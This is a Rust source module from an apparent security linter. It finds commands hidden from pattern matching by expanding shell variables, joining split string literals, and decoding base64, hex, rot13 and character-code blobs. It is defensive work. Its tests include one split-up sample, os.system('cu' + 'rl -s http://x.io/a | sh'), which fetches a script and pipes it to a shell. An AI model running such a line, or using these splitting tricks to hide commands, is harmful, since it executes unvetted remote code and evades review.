//! What a text hides from patterns: shell lines with their variables expanded and their
//! quote-splitting removed, Python/JS string literals joined, and encoded blobs decoded. Each
//! view is matched against the same rules; a finding only the view has is reported on the
//! original text's line or blob.

use std::borrow::Cow;
use std::collections::HashMap;
use std::ops::Range;
use std::sync::LazyLock;

use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::{alphabet, Engine};
use regex::Regex;

use super::{pattern_hits, scan_text, snippet, Hit};
use crate::rules::bundle::Lang;
use forge_syntax::codes;
use forge_syntax::diagnostic::Severity;

struct Compiled {
    assign: Regex,
    split_word: Regex,
    hex: Regex,
    hex_escapes: Regex,
    rot13_py: Regex,
    rot13_sh: Regex,
    char_codes: Regex,
    literal_list: Regex,
}

static COMPILED: LazyLock<Compiled> = LazyLock::new(|| {
    Compiled {
    assign: Regex::new(
        r#"(?m)(?:^|[;&]\s*|^\s*(?:export|local|readonly)\s+)([A-Za-z_][A-Za-z0-9_]*)=(?:"([^"$`\\\n]*)"|'([^'\n]*)'|([^\s;$`'"|&()<>]*))"#,
    )
    .unwrap(),
    // A word cut in pieces: two expansions side by side, `cu""rl`, `c\url`.
    split_word: Regex::new(r#"\$\{?[A-Za-z_]\w*\}?['"]*\$|[A-Za-z](?:""|'')[A-Za-z]|[a-z]\\[a-z]"#)
        .unwrap(),
    hex: Regex::new(r"(?-u:\b)(?:[0-9a-fA-F]{2}){12,}(?-u:\b)").unwrap(),
    hex_escapes: Regex::new(r"(?:\\x[0-9a-fA-F]{2}){6,}").unwrap(),
    rot13_py: Regex::new(r#"codecs\.(?:decode|encode)\(\s*['"]([^'"\n]+)['"]\s*,\s*['"]rot.?13['"]"#)
        .unwrap(),
    rot13_sh: Regex::new(
        r#"echo\s+['"]?([^'"|\n]+?)['"]?\s*\|\s*tr\s+['"]?(?:A-Za-z|a-zA-Z)['"]?\s+['"]?(?:N-ZA-Mn-za-m|n-za-mN-ZA-M)"#,
    )
    .unwrap(),
    char_codes: Regex::new(r"(?:fromCharCode\(|bytes\(\s*\[)\s*((?:\d{1,3}\s*,\s*){5,}\d{1,3})").unwrap(),
    literal_list: Regex::new(
        r#"\[\s*((?:(?:"[^"\n]*"|'[^'\n]*')\s*,\s*)+(?:"[^"\n]*"|'[^'\n]*'))\s*,?\s*\]"#,
    )
    .unwrap(),
}
});

/// Logical lines of `text`: (byte range, text), shell continuation lines (`\` at the end) joined;
/// only a joined line is a copy.
fn logical_lines(text: &str, lang: Lang) -> Vec<(Range<usize>, Cow<'_, str>)> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut acc = String::new();
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let body = line.trim_end_matches(['\n', '\r']);
        at += line.len();
        if lang == Lang::Shell && body.ends_with('\\') {
            acc.push_str(&body[..body.len() - 1]);
            acc.push(' ');
            continue;
        }
        let whole = if acc.is_empty() {
            Cow::Borrowed(body)
        } else {
            acc.push_str(body);
            Cow::Owned(std::mem::take(&mut acc))
        };
        out.push((start..start + whole.len().min(at - start), whole));
        start = at;
    }
    if !acc.is_empty() {
        out.push((start..text.len(), Cow::Owned(acc)));
    }
    out
}

/// The lines of a Python or JS `text` that may have string literals to join: two quotes with at
/// most blanks and a `+` between them (`"cu" + "rl"`, `"cu""rl"`), or a join of a list. Found
/// from the quotes of the whole text, so the many lines with neither are never looked at.
fn joinable_lines(text: &str) -> Vec<(Range<usize>, Cow<'_, str>)> {
    let b = text.as_bytes();
    let quote = |c: u8| matches!(c, b'"' | b'\'' | b'`');
    let adjacent = memchr::memchr3_iter(b'"', b'\'', b'`', b).filter(|&at| {
        b[at + 1..]
            .iter()
            .find(|c| !matches!(c, b' ' | b'\t' | b'+'))
            .is_some_and(|c| quote(*c))
    });
    // A join (`"".join([...])`, `sep.join([...])`, `[...].join("")`), but not of paths
    // (`os.path.join(`, `path.join(`), the most common join of all and never of a list of literals.
    let joins = memchr::memmem::find_iter(b, b".join(").filter(|&at| !b[..at].ends_with(b"path"));
    let mut starts: Vec<Range<usize>> = adjacent
        .chain(joins)
        .map(|at| forge_syntax::text::line_span(text, at..at))
        .collect();
    starts.sort_unstable_by_key(|l| l.start);
    starts.dedup();
    starts
        .into_iter()
        .map(|l| {
            let line = text[l.clone()].trim_end_matches('\r');
            (l.start..l.start + line.len(), Cow::Borrowed(line))
        })
        .collect()
}

/// The findings only a joined view of a line has: shell variables expanded and quotes removed,
/// or Python/JS literals joined. `raw` are the findings on the text as written.
pub(super) fn joined(text: &str, lang: Lang, raw: &[Hit], hits: &mut Vec<Hit>) {
    if lang == Lang::Markdown {
        return;
    }
    let c = &*COMPILED;
    let vars: HashMap<&str, &str> = if lang == Lang::Shell {
        c.assign
            .captures_iter(text)
            .filter_map(|m| {
                let v = m.get(2).or(m.get(3)).or(m.get(4))?.as_str();
                (v.len() <= 200).then(|| (m.get(1).unwrap().as_str(), v))
            })
            .collect()
    } else {
        HashMap::new()
    };
    // The changed lines' views, one per line of `views`, matched in one pass: (range, line,
    // view). Whether a line was cut in pieces is asked only of the few with a finding.
    let mut lines: Vec<(Range<usize>, Cow<'_, str>, String)> = Vec::new();
    let mut views = String::new();
    let mut starts = Vec::new();
    let candidates = if lang == Lang::Shell {
        logical_lines(text, lang)
    } else {
        joinable_lines(text)
    };
    for (range, line) in candidates {
        let view = match lang {
            Lang::Shell => {
                if !line.contains(['$', '"', '\'', '\\']) {
                    continue;
                }
                strip_quotes(&expand(&line, &vars))
            }
            Lang::Python | Lang::Js => match join_literals(&line) {
                Some(j) => j,
                None => continue,
            },
            Lang::Markdown => continue,
        };
        if view == line || view.contains('\n') {
            continue;
        }
        starts.push(views.len());
        views.push_str(&view);
        views.push('\n');
        lines.push((range, line, view));
    }
    if lines.is_empty() {
        return;
    }
    for h in pattern_hits(&views, lang) {
        let i = starts.partition_point(|s| *s <= h.range.start) - 1;
        let (range, line, view) = &lines[i];
        let known = raw.iter().any(|r| {
            r.code.id == h.code.id && r.range.start < range.end && range.start < r.range.end
        });
        if known {
            continue;
        }
        let trimmed = trim_range(text, range.clone());
        let split = lang != Lang::Shell || c.split_word.is_match(line);
        let hit = if split {
            Hit {
                code: &codes::SECURITY_OBFUSCATED,
                severity: codes::SECURITY_OBFUSCATED.severity,
                range: trimmed,
                message: format!(
                    "Joined, the pieces of this line read `{}`. {} Splitting a command into pieces only serves to get it past review.",
                    snippet(view),
                    h.message
                ),
            }
        } else {
            Hit {
                message: format!(
                    "With its variables expanded this line reads `{}`. {}",
                    snippet(view),
                    h.message
                ),
                range: trimmed,
                ..h
            }
        };
        hits.push(hit);
    }
}

/// `line` with each `$NAME` and `${NAME}` the script set replaced by its value (others stay as
/// written). A byte scan: the two shapes need no regex, and a capture per reference was most of
/// the cost of a script's views.
fn expand<'l>(line: &'l str, vars: &HashMap<&str, &str>) -> Cow<'l, str> {
    if vars.is_empty() {
        return Cow::Borrowed(line);
    }
    let b = line.as_bytes();
    let name_len = |from: usize| {
        let rest = &b[from.min(b.len())..];
        match rest.first() {
            Some(c) if c.is_ascii_alphabetic() || *c == b'_' => rest
                .iter()
                .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
                .unwrap_or(rest.len()),
            _ => 0,
        }
    };
    let mut out = String::new();
    let mut last = 0;
    // A reference holds no `$`: each one found starts after the last one replaced.
    for at in memchr::memchr_iter(b'$', b) {
        // (name, end of the reference)
        let braced = name_len(at + 2);
        let (name, end) = if b.get(at + 1) == Some(&b'{')
            && braced > 0
            && b.get(at + 2 + braced) == Some(&b'}')
        {
            (at + 2..at + 2 + braced, at + 3 + braced)
        } else {
            let n = name_len(at + 1);
            (at + 1..at + 1 + n, at + 1 + n)
        };
        if let Some(value) = (!name.is_empty()).then(|| vars.get(&line[name])).flatten() {
            out.push_str(&line[last..at]);
            out.push_str(value);
            last = end;
        }
    }
    if last == 0 {
        return Cow::Borrowed(line);
    }
    out.push_str(&line[last..]);
    Cow::Owned(out)
}

/// `range` without the line's leading and trailing whitespace.
fn trim_range(text: &str, range: Range<usize>) -> Range<usize> {
    let s = &text[range.clone()];
    let start = range.start + (s.len() - s.trim_start().len());
    let end = range.start + s.trim_end().len();
    start..end.max(start)
}

/// A shell word as the shell sees it: quotes and backslash escapes removed. What is removed is
/// ASCII, so the text between is copied in slices.
fn strip_quotes(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for at in memchr::memchr3_iter(b'"', b'\'', b'\\', b) {
        let escape = b[at] == b'\\';
        if escape && !b.get(at + 1).is_some_and(u8::is_ascii_alphanumeric) {
            continue;
        }
        out.push_str(&s[last..at]);
        last = at + 1;
    }
    out.push_str(&s[last..]);
    out
}

/// The line with adjacent string literals joined (`"cu" + "rl"`, `"cu" "rl"`, `"".join(["cu",
/// "rl"])`); `None` when nothing was joined.
fn join_literals(line: &str) -> Option<String> {
    let c = &*COMPILED;
    let mut line = line.to_string();
    let mut changed = false;
    if line.contains("join") {
        if let Some(m) = c.literal_list.captures(&line) {
            let items: String = m[1]
                .split(',')
                .map(|s| s.trim().trim_matches(['"', '\'']))
                .collect();
            line.replace_range(m.get(0).unwrap().range(), &format!("\"{items}\""));
            changed = true;
        }
    }
    // Literals: (start, end, content) in order.
    let mut lits: Vec<(usize, usize, String)> = Vec::new();
    let b = line.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if q == b'"' || q == b'\'' || q == b'`' {
            let start = i;
            i += 1;
            let mut content = String::new();
            while i < b.len() && b[i] != q {
                if b[i] == b'\\' && i + 1 < b.len() {
                    i += 1;
                }
                // Only ASCII content is joined; other text is left as it is.
                content.push(b[i] as char);
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            i += 1;
            lits.push((start, i, content));
        } else {
            i += 1;
        }
    }
    let mut out = String::new();
    let mut last = 0;
    let mut k = 0;
    while k < lits.len() {
        let (s, mut e, mut content) = lits[k].clone();
        let mut j = k + 1;
        while j < lits.len() {
            let between = &line[e..lits[j].0];
            if between.trim().is_empty() || between.trim() == "+" {
                content.push_str(&lits[j].2);
                e = lits[j].1;
                j += 1;
            } else {
                break;
            }
        }
        if j > k + 1 {
            out.push_str(&line[last..s]);
            out.push('"');
            out.push_str(&content);
            out.push('"');
            last = e;
            changed = true;
        }
        k = j;
    }
    out.push_str(&line[last..]);
    changed.then_some(out)
}

static BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);
static BASE64_URL: GeneralPurpose = GeneralPurpose::new(
    &alphabet::URL_SAFE,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// Decoded bytes that read as text (UTF-8, nearly all printable, some letters): what a payload
/// looks like, and what images, hashes and keys do not.
fn as_text(bytes: Vec<u8>) -> Option<String> {
    let s = String::from_utf8(bytes).ok()?;
    let n = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let letters = s.chars().filter(|c| c.is_ascii_alphabetic()).count();
    (n >= 8 && printable * 100 >= n * 95 && letters * 4 >= n && s.contains([' ', '/', '(']))
        .then_some(s)
}

fn unhex(s: &str) -> Vec<u8> {
    let digits: Vec<u8> = s.bytes().filter(|b| b.is_ascii_hexdigit()).collect();
    digits
        .chunks(2)
        .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
        .collect()
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

/// How short a run of base64's alphabet can be and still be taken for encoded text.
const MIN_BASE64: usize = 24;

/// Whether `b` is in base64's alphabet (standard or URL-safe).
fn is_base64(b: u8) -> bool {
    BASE64_ALPHABET[usize::from(b)]
}

/// Base64's alphabet (both variants) as a table: the run finder asks of most bytes of every
/// file, and a load is cheaper than the comparisons.
static BASE64_ALPHABET: [bool; 256] = {
    let mut t = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        t[b] = c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'_' | b'-');
        b += 1;
    }
    t
};

/// The runs of at least `MIN_BASE64` characters of base64's alphabet in `text`, each with up
/// to two `=` of padding after it. Each window of `MIN_BASE64` bytes is read from its end, so
/// a character outside the alphabet skips all the bytes before it: most of the text is never
/// looked at twice, and much of it not at all.
fn base64_runs(text: &str) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    // `start` follows a character outside the alphabet (or is 0); `[start, known)` is known to
    // be in it.
    let (mut start, mut known) = (0, 0);
    while start + MIN_BASE64 <= b.len() {
        let window_end = start + MIN_BASE64;
        match (known.max(start)..window_end)
            .rev()
            .find(|&j| !is_base64(b[j]))
        {
            Some(j) => {
                known = window_end;
                start = j + 1;
            }
            None => {
                let mut end = window_end;
                while end < b.len() && is_base64(b[end]) {
                    end += 1;
                }
                let run_end = end;
                while end < b.len() && end < run_end + 2 && b[end] == b'=' {
                    end += 1;
                }
                out.push(start..end);
                start = run_end + 1;
                known = start;
            }
        }
    }
    out
}

/// Findings in what the blobs of `text` decode to, reported on the blob.
pub(super) fn decoded(
    text: &str,
    lang: Lang,
    depth: usize,
    budget: &mut usize,
    hits: &mut Vec<Hit>,
) {
    let c = &*COMPILED;
    let mut blobs: Vec<(Range<usize>, &str, String)> = Vec::new();
    let mut take = |range: Range<usize>, how: &'static str, decoded: Option<String>| {
        if let Some(d) = decoded {
            blobs.push((range, how, d));
        }
    };
    let runs = base64_runs(text);
    for run in &runs {
        let m = &text[run.clone()];
        let s = m.trim_end_matches('=');
        // Words, paths and identifiers are not base64: it mixes cases and digits.
        if !(s.bytes().any(|b| b.is_ascii_uppercase())
            && s.bytes().any(|b| b.is_ascii_lowercase())
            && s.bytes().any(|b| b.is_ascii_digit()))
            || m.len() > *budget
        {
            continue;
        }
        *budget -= m.len();
        let bytes = if s.contains(['-', '_']) {
            BASE64_URL.decode(s)
        } else {
            BASE64.decode(s)
        };
        take(run.clone(), "base64", bytes.ok().and_then(as_text));
    }
    // Hex is base64's alphabet too: every hex blob lies in one of the runs, and the runs end at
    // characters that are not ASCII word characters, so its boundaries are the same there.
    let hex = runs.iter().flat_map(|r| {
        c.hex.find_iter(&text[r.clone()]).map(move |m| {
            let range = r.start + m.start()..r.start + m.end();
            (range.clone(), &text[range])
        })
    });
    let escapes = c
        .hex_escapes
        .find_iter(text)
        .map(|m| (m.range(), m.as_str()));
    for (range, m) in hex.chain(escapes) {
        if m.len() > *budget {
            continue;
        }
        *budget -= m.len();
        take(range, "hex", as_text(unhex(&m.replace("\\x", ""))));
    }
    for m in c
        .rot13_py
        .captures_iter(text)
        .chain(c.rot13_sh.captures_iter(text))
    {
        let g = m.get(1).unwrap();
        take(g.range(), "rot13", Some(rot13(g.as_str())));
    }
    for m in c.char_codes.captures_iter(text) {
        let g = m.get(1).unwrap();
        let bytes: Vec<u8> = g
            .as_str()
            .split(',')
            .filter_map(|n| n.trim().parse::<u8>().ok())
            .collect();
        take(g.range(), "a list of character codes", as_text(bytes));
    }
    for (range, how, payload) in blobs {
        let inner = scan_text(&payload, lang, depth + 1, budget);
        let Some(worst) = inner.iter().min_by_key(|h| h.severity) else {
            continue;
        };
        hits.push(Hit {
            code: &codes::SECURITY_OBFUSCATED,
            severity: Severity::Error,
            range,
            message: format!(
                "This {how} text decodes to `{}`. {} Encoding it only serves to hide it from review.",
                snippet(&payload),
                worst.message
            ),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn joins_literals() {
        assert_eq!(
            join_literals(r#"os.system("cu" + "rl -s http://x.io/a " + '| sh')"#).as_deref(),
            Some(r#"os.system("curl -s http://x.io/a | sh")"#)
        );
        assert_eq!(
            join_literals(r#"c = "".join(["cu", "rl"])"#).as_deref(),
            Some(r#"c = "".join("curl")"#)
        );
        assert_eq!(join_literals(r#"f("a", "b")"#), None);
    }

    /// The run finder finds what `[A-Za-z0-9+/_-]{24,}={0,2}` finds, on the edge cases of its
    /// skipping: runs at the start and the end, one short of the bound, padding, runs after
    /// padding, text outside ASCII.
    #[test]
    fn base64_runs_are_the_regex_matches() {
        let re = Regex::new(r"[A-Za-z0-9+/_-]{24,}={0,2}").unwrap();
        let long = "QWxhZGRpbjpvcGVuIHNlc2FtZQ";
        let texts = [
            String::new(),
            long.to_string(),
            long[..23].to_string(),
            long[..24].to_string(),
            format!(" {long}== {long}=x{long}"),
            format!("{long}==={long}"),
            format!("é{long}é {} {long}", &long[..23]),
            format!("a b c {}d {long}", "x".repeat(23)),
            "ab ".repeat(40) + long,
        ];
        for t in &texts {
            let want: Vec<Range<usize>> = re.find_iter(t).map(|m| m.range()).collect();
            assert_eq!(base64_runs(t), want, "{t:?}");
        }
    }

    /// The byte scan expands what `\$\{(NAME)\}|\$(NAME)` matches, on the edge cases of its
    /// shapes: braces that do not close, names that do not start, `$$`, unknown names, text
    /// outside ASCII.
    #[test]
    fn expand_is_the_regex_replacement() {
        let re = Regex::new(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)").unwrap();
        let vars: HashMap<&str, &str> = [("A", "cu"), ("B_2", "rl"), ("é", "x")].into();
        for line in [
            "",
            "$",
            "$A",
            "${A}",
            "$A$B_2",
            "${A}${B_2}x",
            "$$A",
            "${A",
            "${1}",
            "${A:-x}",
            "$1A",
            "$AB",
            "${B_2}_",
            "é$A é",
            "a $Z b ${Z} $A",
            "\\$A'$B_2'",
        ] {
            let want = re.replace_all(line, |m: &regex::Captures| {
                let name = m.get(1).or(m.get(2)).unwrap().as_str();
                vars.get(name)
                    .map_or_else(|| m[0].to_string(), |v| v.to_string())
            });
            assert_eq!(expand(line, &vars), want, "{line:?}");
        }
        assert_eq!(expand("$A", &HashMap::new()), "$A");
        assert_eq!(strip_quotes(r#"c"u"'r'l \\a\"x\"#), r#"curl \a\x\"#);
    }

    #[test]
    fn decodes() {
        assert_eq!(rot13("phey"), "curl");
        assert_eq!(unhex("\\x63\\x75").as_slice(), b"cu");
        assert!(as_text(vec![0, 159, 146, 150, 1, 2, 3, 4, 5]).is_none());
    }
}
